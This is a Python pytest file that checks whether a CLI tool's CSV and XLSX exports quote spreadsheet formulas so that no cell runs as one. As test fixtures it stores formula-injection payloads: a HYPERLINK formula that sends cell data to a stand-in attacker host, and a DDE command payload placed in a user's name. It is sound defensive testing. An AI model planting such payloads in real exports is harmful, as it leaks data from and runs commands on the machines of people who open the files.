"""Spreadsheet formula injection through ``samspill export``: no cell may become a formula."""

from __future__ import annotations

import csv

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from sqlalchemy import update

import workflow
from webapp.cli import main
from workflow.store.tables import projects

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Åpne")'
TYPED = [HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)"]
#: leading tab and CR cannot be typed (titles are stripped and one line): stored before that
STORED = ["\tcmd", "\r=1+1"]


@pytest.fixture
def export(wf, tmp_path):
    """Run ``samspill export`` on the test's database: ``export("csv")`` → the file's path."""
    env = {"SAMSPILL_DATABASE_URL": wf.db.engine.url.render_as_string(hide_password=False)}

    def run(fmt: str):
        output = tmp_path / f"portefolje.{fmt}"
        result = CliRunner().invoke(
            main, ["export", "--format", fmt, "--output", str(output)], env=env
        )
        assert result.exit_code == 0, result.output
        return output

    return run


@pytest.fixture
def attacks(wf, create_user):
    """Projects whose titles (and one owner's name) a spreadsheet would run as formulas."""
    attacker = create_user("owner", name="=cmd|' /C calc'!A0")
    for title in TYPED:
        workflow.create_project(wf, attacker, definition="lab", title=title)
    for title in STORED:
        pid = workflow.create_project(wf, attacker, definition="lab", title="placeholder")
        with wf.db.write() as conn:
            conn.execute(update(projects).where(projects.c.id == pid).values(title=title))
    return [*TYPED, *STORED]


def test_the_csv_export_quotes_every_formula_and_keeps_the_text(export, attacks):
    with export("csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))

    titles = [row[3] for row in rows[1:]]
    assert titles == ["'" + title for title in attacks]
    assert {row[9] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}


def test_the_xlsx_export_has_no_formula_cell_and_keeps_the_text(export, attacks):
    sheet = load_workbook(export("xlsx")).active

    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = [sheet.cell(row=r, column=4).value for r in range(2, sheet.max_row + 1)]
    # XML reads a stored CR as LF
    assert titles == ["'" + title.replace("\r", "\n") for title in attacks]
    assert sheet["J2"].value == "'=cmd|' /C calc'!A0"
